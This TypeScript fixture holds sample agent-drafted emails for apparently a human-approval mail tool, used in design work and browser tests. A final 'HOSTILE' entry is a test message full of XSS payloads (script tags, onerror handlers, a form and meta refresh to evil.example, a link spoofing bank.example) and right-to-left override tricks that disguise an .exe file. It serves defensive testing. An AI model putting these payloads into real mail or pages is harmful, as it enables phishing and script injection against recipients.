// Sample asks for design work and browser tests: what agents write on an ordinary day.
// Every domain is reserved (RFC 2606).

import type { FindingOutcome, Mark } from "../../bindings";

export type Letter = {
  agent: string;
  from: string;
  to: [name: string | null, address: string, isNew?: boolean][];
  cc?: [string | null, string][];
  bcc?: [string | null, string][];
  subject: string;
  text: string | null;
  html?: string;
  why: string;
  sentence: string;
  reason?: string;
  minutesAgo: number;
  expiresInMinutes: number;
  fires: { rule: string; outcome: FindingOutcome; sentence: string; matched?: string }[];
  attachments?: { filename: string; content_type: string; octets: number }[];
  /** Whom its headers name and it does not go to. */
  namedOnly?: string[];
  links?: { text: string; target: string }[];
  marks?: Mark[];
  warnings?: string[];
  dossier?: {
    established: string | null;
    /** Minutes since we last wrote to them. */
    last: number | null;
    suppressed?: string;
    /** Minutes ago, what, and whether it came from them. */
    history: [number, string, true?][];
    /** Minutes ago, and how they asked to be left out. */
    optOut?: [number, string];
    /** Minutes ago, and what a person last decided. */
    decided?: [number, string];
    /** The demo's conversation it belongs to. */
    conversation?: string;
  };
};

const STRANGERS = (domain: string) => ({
  rule: "autonomy",
  outcome: "hold" as const,
  sentence: `this agent asks for strangers, and nobody here has written to ${domain} before`,
});
const ALWAYS = {
  rule: "autonomy",
  outcome: "hold" as const,
  sentence: "this agent is at level 1: every mail waits for a person",
};

export const LETTERS: Letter[] = [
  {
    agent: "outreach",
    from: "Lena Brandt <hello@sendoff.test>",
    to: [["Dana Whitfield", "dana@acme.example", true]],
    bcc: [[null, "crm@sendoff.test"]],
    subject: "Your question about onboarding seats",
    text: `Hi Dana,

thanks for asking about onboarding. For teams above fifty seats we set everything up with you in one 30-minute call; most are live the same day.

Would Thursday work? You can pick a time here: https://calendar.sendoff.test/lena

The attached sheet answers the two questions we hear most: who can approve, and what leaves the building (nothing).

Best,
Lena`,
    why: "first mail to acme.example",
    sentence: "Held: first mail to acme.example from this agent.",
    reason: "Inbound form 14 min ago asked about seats over 50",
    minutesAgo: 2,
    expiresInMinutes: 1_438,
    fires: [STRANGERS("acme.example")],
    attachments: [{ filename: "onboarding.pdf", content_type: "application/pdf", octets: 184_211 }],
    links: [
      { text: "https://calendar.sendoff.test/lena", target: "https://calendar.sendoff.test/lena" },
    ],
    marks: [{ start: 203, end: 237, what: "a host not sent before" }],
    dossier: {
      established: null,
      last: null,
      history: [
        [14, "Seats for a team of 12 · to hello@sendoff.test", true],
        [60 * 24 * 190, "another contact at acme.example got two mails, no opt-out"],
      ],
      conversation: "con_0",
    },
  },
  {
    agent: "support",
    from: "Sendoff Support <support@sendoff.test>",
    to: [["Marta Ortega", "m.ortega@lumen.example"]],
    subject: "Re: Invoice 2231 – corrected amount",
    text: `Hello Marta,

you were right: the second line was billed twice. The corrected total is 1,184.00 EUR, and the difference goes back to the account it came from within three working days.

Invoice 2231-b is attached and replaces the first one. There is nothing you need to do.

Kind regards,
Support`,
    why: "asks always (level 1)",
    sentence: "Held: support asks before every mail (level 1).",
    reason: "Customer reported a double charge; amount checked against the ledger",
    minutesAgo: 6,
    expiresInMinutes: 1_420,
    fires: [ALWAYS],
    attachments: [
      { filename: "invoice-2231-b.pdf", content_type: "application/pdf", octets: 61_804 },
    ],
    dossier: {
      established: "established: 9 mails delivered since January, none bounced",
      last: 60 * 24 * 3,
      history: [
        [31, "Re: Invoice 2231 · to support@sendoff.test", true],
        [60 * 24 * 3, "support sent “Invoice 2231”"],
        [60 * 24 * 34, "support sent “Invoice 2119”"],
      ],
      decided: [60 * 24 * 3, "Edited “Invoice 2231” of support: the total was wrong."],
    },
  },
  {
    agent: "outreach",
    from: "Lena Brandt <hello@sendoff.test>",
    to: [
      ["Priya Nair", "priya@northwind.example", true],
      ["Tom Aalto", "tom@northwind.example", true],
    ],
    cc: [["Jonas Weber", "jonas@sendoff.test"]],
    subject: "Rollout at Northwind: what the first week looks like",
    text: null,
    html: `<div style="font-family:Georgia,serif;font-size:15px;line-height:1.6;color:#222;max-width:560px">
<p>Hi Priya, hi Tom,</p>
<p>you asked how the first week goes. In short:</p>
<table style="border-collapse:collapse;width:100%;font-size:14px">
<tr><td style="border-bottom:1px solid #ddd;padding:6px 0"><b>Monday</b></td><td style="border-bottom:1px solid #ddd">one call, we connect your mailbox together</td></tr>
<tr><td style="border-bottom:1px solid #ddd;padding:6px 0"><b>Tuesday</b></td><td style="border-bottom:1px solid #ddd">agents draft, people approve; nothing leaves alone</td></tr>
<tr><td style="padding:6px 0"><b>Friday</b></td><td>you read the record and turn the dial, or do not</td></tr>
</table>
<p>The full plan is <a href="https://plan.northwind-rollout.example/week-one">on one page</a>.</p>
<p>Warmly,<br>Lena</p></div>`,
    why: "first mail to northwind.example · 2 new contacts",
    sentence: "Held: first mail to northwind.example, to two people who never heard from us.",
    reason: "Requested in the call on Monday",
    minutesAgo: 11,
    expiresInMinutes: 1_200,
    fires: [STRANGERS("northwind.example")],
    links: [{ text: "on one page", target: "https://plan.northwind-rollout.example/week-one" }],
    dossier: { established: null, last: null, history: [] },
  },
  {
    agent: "billing",
    from: "Accounts <billing@sendoff.test>",
    to: [["Finance", "finance@harbour.example"]],
    subject: "Payment reminder, second notice",
    text: `Dear finance team,

invoice 2187 of 3 October (2,940.00 EUR) is still open. If it crossed with your payment, please ignore this note.

Otherwise a transfer by Friday keeps everything running without interruption.

Accounts`,
    html: `<p>Dear finance team,</p><p>invoice 2187 of 3 October (<b>2,940.00 EUR</b>) is still open. Please pay <a><mark title="link: not encrypted">here</mark></a> by Friday.</p><p>Accounts</p><img src="https://pixel.example/2187.gif" width="1" height="1" alt="">`,
    why: "asks always (level 1)",
    sentence: "Held: billing asks before every mail (level 1).",
    reason: "30 days overdue",
    minutesAgo: 18,
    expiresInMinutes: 96,
    fires: [
      ALWAYS,
      {
        rule: "links",
        outcome: "hold",
        sentence: "a link to pay.harbour-invoices.example is not encrypted",
      },
    ],
    links: [{ text: "here", target: "http://pay.harbour-invoices.example/2187" }],
    warnings: [
      "the text and the HTML say different things: a link is only in the HTML",
      "the HTML loads an image from pixel.example when it is opened",
    ],
    dossier: {
      established: "established: 22 mails delivered since last year",
      last: 60 * 24 * 8,
      history: [[60 * 24 * 8, "billing sent “Payment reminder”"]],
      optOut: [60 * 24 * 5, "Please send reminders to our bookkeeper, and not to me any more."],
    },
  },
  {
    agent: "support",
    from: "Sendoff Support <support@sendoff.test>",
    to: [["Ewa Lis", "ewa@xn--lsing-gra.example"]],
    subject: "Re: export stops at 10,000 rows",
    text: `Hi Ewa,

that limit was ours, not yours. It is gone since this morning; a new export gives you all 48,211 rows.

If the file is too large for your sheet, tell me which columns you need and I will cut it down.

Best,
Sendoff Support`,
    why: "asks always (level 1)",
    sentence: "Held: support asks before every mail (level 1).",
    minutesAgo: 24,
    expiresInMinutes: 1_380,
    fires: [ALWAYS],
    dossier: {
      established: "established: she wrote to us today with passing DKIM",
      last: null,
      history: [[40, "wrote: “The export just stops.”"]],
    },
  },
  {
    agent: "outreach",
    from: "Lena Brandt <hello@sendoff.test>",
    to: [["Samir Haddad", "samir@fernway.example", true]],
    subject: "Quick follow-up on the Fernway rollout",
    text: `Hi Samir,

you said autumn was the right time to look at this again, and the leaves agree.

Shall I send the short version, or would you rather see it in ten minutes on a call?

Lena`,
    why: "first mail to fernway.example",
    sentence: "Held: first mail to fernway.example from this agent.",
    minutesAgo: 41,
    expiresInMinutes: 176,
    fires: [STRANGERS("fernway.example")],
    dossier: { established: null, last: null, history: [] },
  },
  {
    agent: "recruiting",
    from: "People at Sendoff <people@sendoff.test>",
    to: [["Noor de Vries", "noor@mailhaus.example", true]],
    subject: "Your application: a first conversation",
    text: `Dear Noor,

thank you for writing. We read your notes on retry budgets twice, once for work and once for joy.

Would you have half an hour next week, Tuesday to Thursday? Any time after ten is good for us.

All the best,
People at Sendoff`,
    why: "first mail to mailhaus.example",
    sentence: "Held: first mail to mailhaus.example from this agent.",
    reason: "Applied on Sunday through the careers page",
    minutesAgo: 52,
    expiresInMinutes: 1_300,
    fires: [STRANGERS("mailhaus.example")],
    dossier: {
      established: null,
      last: null,
      history: [[60 * 24, "applied through the careers page"]],
    },
  },
  {
    agent: "support",
    from: "Sendoff Support <support@sendoff.test>",
    to: [[null, "ops@quarry.example"]],
    subject: "Re: webhook retries",
    text: `Hello,

retries come after 1, 5 and 30 minutes, then hourly for a day. Each carries the same id, so the second one is safe to drop.

Sendoff Support`,
    why: "asks always (level 1)",
    sentence: "Held: support asks before every mail (level 1).",
    minutesAgo: 66,
    expiresInMinutes: 1_290,
    fires: [ALWAYS],
    dossier: {
      established: "established: 3 mails delivered",
      last: 300,
      history: [[60 * 5, "support sent “Re: webhook retries”"]],
    },
  },
  {
    agent: "billing",
    from: "Accounts <billing@sendoff.test>",
    to: [["Ines Roth", "ines@kiosk.example"]],
    subject: "Your receipt for November",
    text: `Hello Ines,

the receipt for November is attached: 12 seats, 288.00 EUR, paid by card on the 14th.

Accounts`,
    why: "asks always (level 1)",
    sentence: "Held: billing asks before every mail (level 1).",
    minutesAgo: 73,
    expiresInMinutes: 1_270,
    fires: [ALWAYS],
    attachments: [
      { filename: "receipt-2026-11.pdf", content_type: "application/pdf", octets: 42_117 },
    ],
    dossier: {
      established: "established: 11 receipts delivered",
      last: 60 * 24 * 31,
      history: [[60 * 24 * 31, "billing sent “Your receipt for October”"]],
    },
  },
  {
    agent: "outreach",
    from: "Lena Brandt <hello@sendoff.test>",
    to: [["Caro Lindqvist", "caro@brightpath.example", true]],
    subject: "The comparison you asked for at the meet-up",
    text: `Hi Caro,

as promised, the one-page comparison. I marked the two rows where we are not the better choice, so that you need not look for them.

Enjoy the rest of the week,
Lena`,
    why: "first mail to brightpath.example",
    sentence: "Held: first mail to brightpath.example from this agent.",
    minutesAgo: 88,
    expiresInMinutes: 1_260,
    fires: [STRANGERS("brightpath.example")],
    attachments: [
      { filename: "comparison.pdf", content_type: "application/pdf", octets: 96_420 },
      { filename: "comparison.csv", content_type: "text/csv", octets: 81 },
    ],
    dossier: { established: null, last: null, history: [] },
  },
];

/** The rules of the walking house, in table order. */
/** One form letter to seven people. */
export const ALIKE: Letter[] = [
  ["Priya", "northwind"],
  ["Tom", "kiosk"],
  ["Ewa", "lumen"],
  ["Samir", "fernway"],
  ["Noor", "mailhaus"],
  ["Ines", "quarry"],
  ["Caro", "brightpath"],
].map(([name, firm], at) => ({
  agent: "outreach",
  from: "Lena Brandt <hello@sendoff.test>",
  to: [[name ?? "", `${name?.toLowerCase()}@${firm}.example`, true]],
  subject: `Seats for ${firm} in December`,
  text: `Hi ${name},

last week we spoke about how ${firm} handles its seats, and whether a longer trial would help you decide in December. Shall I set one up?

Lena`,
  why: `first mail to ${firm}.example`,
  sentence: `Held: first mail to ${firm}.example from this agent.`,
  minutesAgo: 30 + at,
  expiresInMinutes: 300,
  fires: [STRANGERS(`${firm}.example`)],
}));

export const RULES: [code: string, title: string, passSentence: string][] = [
  ["workspace_paused", "Workspace pause", "nothing is paused"],
  ["agent_paused", "Agent paused, revoked or expired", "the agent may ask"],
  ["queue_full", "Held submissions of this agent", "there is room in the queue"],
  ["mailbox_grant", "Mailbox granted to this agent", "the agent may send as this mailbox"],
  ["suppression", "Suppression list", "nobody addressed is suppressed"],
  ["duplicate", "Same content before", "nothing like it was sent in 24 h"],
  ["cooldown", "Contact cooldown", "nobody wrote to this contact just now"],
  ["rate_limit", "Rate limits", "12 of 100 this hour"],
  ["autonomy", "Autonomy of the agent", "no question left for a person"],
];

/** Everything a stranger might try, in one mail; for the tests of the message view. */
export const HOSTILE: Letter = {
  agent: "outreach",
  from: "Lena Brandt <hello@sendoff.test>",
  to: [["Pay\u202eLap", "pay\u200bments@bank.example", true]],
  subject: "Invoice \u202egnp.exe",
  namedOnly: ["ceo@bank.example"],
  text: null,
  html: `<script>top.pwned = 1; parent.pwned = 1</script>
<img src="x" onerror="parent.pwned = 1"><svg onload="parent.pwned = 1"></svg>
<style>@import url(https://evil.example/a.css); body { background: url(https://evil.example/b.png) }</style>
<link rel="stylesheet" href="https://evil.example/c.css"><meta http-equiv="refresh" content="0;url=https://evil.example/d">
<base href="https://evil.example/"><form action="https://evil.example/e"><input name="a" autofocus><button>Go</button></form>
<iframe src="https://evil.example/f"></iframe><object data="https://evil.example/g"></object>
<video src="https://evil.example/h" autoplay></video>
<a id="out" href="https://evil.example/i" style="position:fixed;inset:0">https://bank.example</a>`,
  why: "first mail to bank.example",
  sentence: "Held: first mail to bank.example from this agent.",
  minutesAgo: 1,
  expiresInMinutes: 1_400,
  fires: [STRANGERS("bank.example")],
  links: [{ text: "https://bank.example", target: "https://evil.example/i" }],
  warnings: [],
};
